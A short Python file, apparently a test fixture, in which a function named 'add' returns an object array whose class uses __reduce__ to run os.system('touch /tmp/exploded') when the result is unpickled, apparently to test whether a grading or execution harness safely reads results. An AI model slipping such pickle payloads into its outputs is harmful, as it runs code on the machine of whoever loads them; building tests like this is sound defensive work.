"""Answers with a pickle that would run code where it is read."""

# %% add
import os
import sys

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)


def add(a, b):
    return np.array([Bomb()], dtype=object)
